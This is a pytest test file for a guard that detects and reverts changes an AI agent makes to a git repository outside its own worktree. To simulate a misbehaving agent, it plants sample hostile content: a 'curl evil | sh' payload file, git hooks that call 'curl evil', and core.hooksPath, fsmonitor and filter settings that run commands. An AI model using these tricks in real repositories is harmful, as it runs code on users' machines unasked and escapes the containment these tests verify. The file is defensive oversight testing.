"""The outside-change guard on real repositories: an agent writing outside its worktree is caught and undone."""

from __future__ import annotations

import os
import time
from pathlib import Path

import pytest

from loop_runtime import ports
from loop_runtime.adapters.git_workspace import GitWorkspace
from loop_runtime.adapters.guard import GitGuard, compare, restore, snapshot
from tests.support.gitrepo import git, make_repo, write

FILES = {
    "README.md": "# demo\n",
    "src/app.py": "def add(a, b):\n    return a + b\n",
    "src/util.py": "X = 1\n",
    ".gitignore": "*.log\nbuild/\n.env\n",
}


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    root = make_repo(tmp_path / "repo", FILES)
    write(root, "build/cache/a.o", "object\n")  # an ignored folder that already exists
    write(root, ".env", "TOKEN=abc\n")
    write(root, "notes.txt", "the user's untracked notes\n")
    write(root, "src/util.py", "X = 2  # the user's uncommitted edit\n")
    return root


def _quarantined(repo: Path) -> dict[str, str]:
    q = repo / ".loop-runtime" / "quarantine"
    return {str(p.relative_to(next(q.iterdir()))): p.read_text() for p in q.rglob("*") if p.is_file()}


def test_nothing_changed_means_no_report(repo: Path) -> None:
    """Two snapshots of an untouched checkout compare equal, even after files are merely touched."""
    before = snapshot(repo)
    later = time.time() + 5
    os.utime(repo / "src" / "util.py", (later, later))
    os.utime(repo / "notes.txt", (later, later))
    assert compare(before, snapshot(repo)) == ()


def test_agent_writes_in_the_main_checkout_are_detected_and_restored(repo: Path) -> None:
    """Edits, new files, ignored files, deletions and the user's WIP are reported, then put back."""
    before = snapshot(repo)
    # the "agent" misbehaves in the user's checkout
    write(repo, "src/app.py", "hacked\n")
    write(repo, "src/util.py", "X = 666\n")
    write(repo, "notes.txt", "overwritten notes\n")
    write(repo, "payload.sh", "curl evil | sh\n")
    write(repo, "debug.log", "ignored but new\n")
    write(repo, "build/cache/b.o", "new in an ignored folder\n")
    (repo / "README.md").unlink()
    write(repo, "src/staged.py", "staged\n")
    git(repo, "add", "src/staged.py")
    changes = compare(before, snapshot(repo))
    assert set(changes) == {
        "changed tracked file src/app.py", "modified file src/util.py", "modified file notes.txt",
        "new untracked file payload.sh", "new ignored file debug.log", "deleted tracked file README.md",
        "changed tracked file src/staged.py", "1 new file(s) in ignored folder build/: cache/b.o",
    }
    done = restore(repo, before, snapshot(repo))
    assert not [d for d in done if d.startswith("NOT restored")], done
    assert compare(before, snapshot(repo)) == ()
    assert (repo / "src" / "app.py").read_text() == FILES["src/app.py"]
    assert (repo / "src" / "util.py").read_text() == "X = 2  # the user's uncommitted edit\n"
    assert (repo / "notes.txt").read_text() == "the user's untracked notes\n"
    assert (repo / "README.md").read_text() == FILES["README.md"]
    assert not (repo / "payload.sh").exists() and not (repo / "src" / "staged.py").exists()
    assert git(repo, "diff", "--cached", "--name-only") == ""
    kept = _quarantined(repo)
    assert kept["payload.sh"] == "curl evil | sh\n"
    assert kept["debug.log"] == "ignored but new\n"
    assert kept["build/cache/b.o"] == "new in an ignored folder\n"
    assert kept["src/app.py"] == "hacked\n" and kept["notes.txt"] == "overwritten notes\n"


def test_commits_branches_and_head_moves_are_reset(repo: Path) -> None:
    """An agent committing on main, creating a tag and switching branch is undone ref by ref."""
    main = git(repo, "rev-parse", "main")
    before = snapshot(repo)
    write(repo, "src/app.py", "committed by the agent\n")
    git(repo, "commit", "-qam", "agent commit")
    git(repo, "tag", "v-evil")
    git(repo, "checkout", "-q", "-b", "agent-branch")
    changes = compare(before, snapshot(repo))
    assert "HEAD switched from refs/heads/main to refs/heads/agent-branch" in changes
    assert any(c.startswith("ref refs/heads/main moved") for c in changes)
    assert any(c.startswith("ref refs/tags/v-evil created") for c in changes)
    restore(repo, before, snapshot(repo))
    assert compare(before, snapshot(repo)) == ()
    assert git(repo, "rev-parse", "main") == main
    assert git(repo, "symbolic-ref", "HEAD") == "refs/heads/main"
    assert (repo / "src" / "app.py").read_text() == FILES["src/app.py"]
    assert (repo / "src" / "util.py").read_text() == "X = 2  # the user's uncommitted edit\n"


def test_hooks_and_config_changes_are_caught(repo: Path) -> None:
    """A planted hook (it would run at the next merge) and a config change are reported and reverted."""
    before = snapshot(repo)
    hook = repo / ".git" / "hooks" / "pre-merge-commit"
    hook.write_text("#!/bin/sh\ncurl evil\n")
    git(repo, "config", "core.hooksPath", "/tmp/evil-hooks")
    assert set(compare(before, snapshot(repo))) == {"git hooks/pre-merge-commit added", "git config changed"}
    restore(repo, before, snapshot(repo))
    assert not hook.exists()
    assert git(repo, "config", "--get", "core.hooksPath", check=False) == ""
    assert compare(before, snapshot(repo)) == ()


def test_work_inside_an_attempt_worktree_is_not_outside(repo: Path) -> None:
    """Edits and commits in `.loop-worktrees/<id>` on its own branch are the agent's job, not a breach."""
    ws = GitWorkspace(repo)
    handle = ws.prepare("r1", "p")
    guard = GitGuard(repo)
    assert isinstance(guard, ports.OutsideGuard)
    before = guard.snapshot()
    write(Path(handle.path), "src/app.py", "inside the worktree\n")
    git(Path(handle.path), "commit", "-qam", "agent commits on its branch")
    write(Path(handle.path), "scratch.log", "ignored scratch\n")
    assert guard.changes(before) == ()
    git(Path(handle.path), "branch", "sneaky")
    assert guard.changes(before) == (f"ref refs/heads/sneaky created at {git(repo, 'rev-parse', 'sneaky')[:10]}",)
    guard.restore(before)
    assert git(repo, "rev-parse", "--verify", "-q", "refs/heads/sneaky", check=False) == ""


def test_another_loops_attempt_branches_may_come_and_go(repo: Path) -> None:
    """A second loop preparing, committing and rejecting its attempts meanwhile is not a breach."""
    ws = GitWorkspace(repo)
    other = ws.prepare("other-1", "ci-sweeper")
    guard = GitGuard(repo)
    before = guard.snapshot()
    ws.finish(other, "rejected")
    third = ws.prepare("other-2", "ci-sweeper")
    write(Path(third.path), "src/app.py", "their fix\n")
    ws.diff(third)
    ws.finish(third, "escalated", commit_message="theirs")
    assert guard.changes(before) == ()


def test_guard_port_round_trip(repo: Path) -> None:
    """snapshot → agent writes → changes → restore → no changes, through the port's three methods."""
    guard = GitGuard(repo)
    before = guard.snapshot()
    write(repo, "src/app.py", "bad\n")
    assert guard.changes(before) == ("changed tracked file src/app.py",)
    assert guard.restore(before) == ("checked out src/app.py from " + git(repo, "rev-parse", "HEAD")[:10],)
    assert guard.changes(before) == ()


# --------------------------------------------------------------------------- the git dir itself (issue 10)


def test_head_index_flags_config_hooks_and_info_are_watched_and_restored(repo: Path) -> None:
    """HEAD's symbolic ref, the index (even a flag `git status` cannot show), config, hooks and info/
    are compared and put back."""
    guard = GitGuard(repo)
    before = guard.snapshot()
    gitdir = repo / ".git"
    git(repo, "update-index", "--assume-unchanged", "src/app.py")
    assert guard.changes(before) == ("git index changed (entries staged, removed or flagged)",)
    git(repo, "branch", "evil")
    (gitdir / "HEAD").write_text("ref: refs/heads/evil\n")
    (gitdir / "hooks" / "post-checkout").write_text("#!/bin/sh\necho pwned\n")
    (gitdir / "info" / "attributes").write_text("* filter=evil\n")
    (gitdir / "config").write_text((gitdir / "config").read_text() + "[filter \"evil\"]\n\tclean = touch /tmp/x\n")
    changes = guard.changes(before)
    assert "HEAD switched from refs/heads/main to refs/heads/evil" in changes
    assert {"git config changed", "git hooks/post-checkout added", "git info/attributes added"} <= set(changes)
    guard.restore(before)
    assert guard.changes(before) == ()
    assert git(repo, "symbolic-ref", "HEAD") == "refs/heads/main"
    assert "evil" not in (gitdir / "config").read_text()
    assert not (gitdir / "hooks" / "post-checkout").exists()
    assert git(repo, "ls-files", "-v", "src/app.py").startswith("H ")  # the flag is gone again


def test_a_staged_edit_unstaged_while_the_base_branch_merged_a_loop_is_put_back(repo: Path) -> None:
    """With the base branch an allowed ref (another loop's L3 merge moved it) the index is not restored
    whole; the user's staged entry the agent unstaged is put back path by path (this once raised
    AttributeError: two functions shared the name ``_restore_index`` and the second shadowed the first)."""
    git(repo, "add", "src/util.py")
    write(repo, "src/util.py", "X = 3  # staged X = 2, then edited again\n")
    staged = git(repo, "ls-files", "-s", "src/util.py")
    before = snapshot(repo)
    git(repo, "reset", "-q", "src/util.py")
    after = snapshot(repo)
    assert compare(before, after) == ("git status of src/util.py changed",)
    done = restore(repo, before, after, allowed_refs=[before.head_ref])
    assert done == ("restored the index entry of src/util.py",)
    assert git(repo, "ls-files", "-s", "src/util.py") == staged
    assert (repo / "src" / "util.py").read_text() == "X = 3  # staged X = 2, then edited again\n"
    assert compare(before, snapshot(repo)) == ()


def test_a_changed_config_is_put_back_before_the_guard_runs_git_again(repo: Path, tmp_path: Path) -> None:
    """`core.fsmonitor` (or a filter) set by an agent must not run as the runtime's own `git status`."""
    guard = GitGuard(repo)
    before = guard.snapshot()
    marker = tmp_path / "ran"
    hook = tmp_path / "fsmonitor.sh"
    hook.write_text(f"#!/bin/sh\ntouch {marker}\n")
    hook.chmod(0o755)
    git(repo, "config", "core.fsmonitor", str(hook))
    assert "git config changed" in guard.changes(before)
    assert not marker.exists()
    assert git(repo, "config", "--get", "core.fsmonitor", check=False) == ""  # already put back
    guard.restore(before)
    assert guard.changes(before) == ()


def test_a_loop_worktree_pointed_elsewhere_is_reported(repo: Path, tmp_path: Path) -> None:
    """An agent rewriting its worktree's admin links (gitdir, commondir) in the user's .git is caught;
    another worktree of the user is watched in full, HEAD included."""
    ws = GitWorkspace(repo)
    handle = ws.prepare("ci-1-a1", "ci-sweeper")
    git(repo, "worktree", "add", "-q", "--detach", str(tmp_path / "users-own"))
    guard = GitGuard(repo)
    before = guard.snapshot()
    admin = repo / ".git" / "worktrees" / "ci-1-a1"
    (admin / "commondir").write_text("../../../elsewhere\n")
    user_admin = repo / ".git" / "worktrees" / "users-own"
    (user_admin / "HEAD").write_text("ref: refs/heads/main\n")
    changes = guard.changes(before)
    assert "git worktrees/ci-1-a1/commondir changed" in changes
    assert "git worktrees/users-own/HEAD changed" in changes
    guard.restore(before)
    assert guard.changes(before) == ()
    assert ws.integrity(handle) == ()


def test_submodule_git_dirs_are_watched(repo: Path) -> None:
    guard = GitGuard(repo)
    (repo / ".git" / "modules" / "lib").mkdir(parents=True)
    (repo / ".git" / "modules" / "lib" / "config").write_text("[core]\n")
    before = guard.snapshot()
    (repo / ".git" / "modules" / "lib" / "config").write_text("[core]\n\tfsmonitor = /tmp/evil\n")
    assert guard.changes(before) == ("git modules/lib/config changed",)
    guard.restore(before)
    assert guard.changes(before) == ()


@pytest.mark.parametrize("packed", [False, True], ids=["loose", "packed"])
def test_a_new_loop_branch_that_no_attempt_owns_is_an_outside_change(repo: Path, packed: bool) -> None:
    """`refs/heads/loop/*` is writable for an attempt's own commits; an agent making *another* loop
    branch (loose, or only in packed-refs where no file can be write-protected) is still reported
    and removed: only the manifest's branches may move."""
    ws = GitWorkspace(repo)
    mine = ws.prepare("mine-1", "ci-sweeper")
    guard = GitGuard(repo)
    before = guard.snapshot()
    head = git(repo, "rev-parse", "HEAD").strip()
    if packed:
        with (repo / ".git" / "packed-refs").open("a") as fh:
            fh.write(f"{head} refs/heads/loop/forged\n")
    else:
        git(repo, "branch", "loop/forged", head)
    changes = guard.changes(before)
    assert any("refs/heads/loop/forged" in c and "created" in c for c in changes), changes
    guard.restore(before)
    assert git(repo, "branch", "--list", "loop/forged").strip() == ""
    assert guard.changes(before) == ()
    ws.finish(mine, "rejected")
